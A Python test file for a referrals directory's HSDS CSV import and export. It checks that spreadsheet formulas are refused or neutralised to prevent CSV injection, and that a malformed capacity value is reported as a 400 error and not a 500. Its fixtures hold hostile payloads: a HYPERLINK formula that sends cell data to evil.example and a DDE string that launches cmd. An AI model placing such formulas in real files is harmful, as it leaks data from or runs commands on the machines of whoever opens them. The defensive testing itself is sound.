"""Second reader: the directory's HSDS CSV exchange must not carry spreadsheet formulas.

An administrator's import (or form) may store a cell such as ``=HYPERLINK(...)``; the export
writes it verbatim, so whoever opens the exported CSV in a spreadsheet runs the formula (CSV
injection, OWASP). Either the import refuses such values or the export neutralises them
(e.g. a leading apostrophe). Fails until one of them is done.
"""

from __future__ import annotations

import csv
import io

from referrals.directory import hsds
from referrals.directory.manage import OrganizationDetails, save_organization
from tests.referrals.directory.test_hsds import unzip, zip_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'

ORGS = (
    "id,name,alternate_name,description,email,url,phone,country,homeward_organisation\n"
    '11111111-1111-1111-1111-111111111111,"' + PAYLOAD.replace('"', '""') + '",'
    "@SUM(1+1),+cmd|' /C calc'!A0,,,,XK,\n"
)
SERVICES = (
    "id,organization_id,name,status\n"
    "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa,11111111-1111-1111-1111-111111111111,"
    "=1+2,active\n"
)


def _formula_cells(files: dict[str, str]) -> list[tuple[str, str]]:
    found = []
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            found += [(name, cell) for cell in row if cell.startswith(FORMULA_STARTS)]
    return found


def test_imported_formulas_are_refused_or_neutralised_on_export(app, db_session):
    with app.app_context():
        report = hsds.import_zip(
            db_session, None, zip_of({"organizations.csv": ORGS, "services.csv": SERVICES})
        )
        db_session.commit()
        if not report.applied:  # refused at import: fine
            return
        files = unzip(hsds.export_zip(db_session, None))
    assert _formula_cells(files) == []


def test_formula_typed_in_the_form_is_neutralised_on_export(app, db_session):
    with app.app_context():
        save_organization(db_session, None, OrganizationDetails(name=PAYLOAD, country="XK"))
        db_session.commit()
        files = unzip(hsds.export_zip(db_session, None))
    assert _formula_cells(files) == []


def test_import_with_a_superscript_capacity_is_reported_not_a_500(
    app, db_session, client, monkeypatch
):
    """rows._service_row checks ``capacity_text.isdigit()`` and then calls ``int()``: "²" is a
    digit for str.isdigit but not for int(), so the ValueError escapes the row checks and the
    upload page answers 500 instead of reporting the line."""
    import re

    from core.permissions import Role
    from tests.factories import make_account, sign_in

    sign_in(client, make_account(app, db_session, Role.ADMINISTRATOR), db_session)
    orgs = (
        "id,name,alternate_name,description,email,url,phone,country,homeward_organisation\n"
        "11111111-1111-1111-1111-111111111111,Good Org,,,,,,XK,\n"
    )
    services = (
        "id,organization_id,name,status,capacity\n"
        "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa,11111111-1111-1111-1111-111111111111,"
        "Beds,active,\u00b2\n"
    )
    page = client.get("/directory/manage/import").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)
    try:
        status = client.post(
            "/directory/manage/import",
            data={
                "csrf_token": token,
                "archive": (
                    io.BytesIO(zip_of({"organizations.csv": orgs, "services.csv": services})),
                    "d.zip",
                ),
            },
            content_type="multipart/form-data",
        ).status_code
    except Exception as exc:
        status = f"crash: {type(exc).__name__}"
    assert status == 400, status
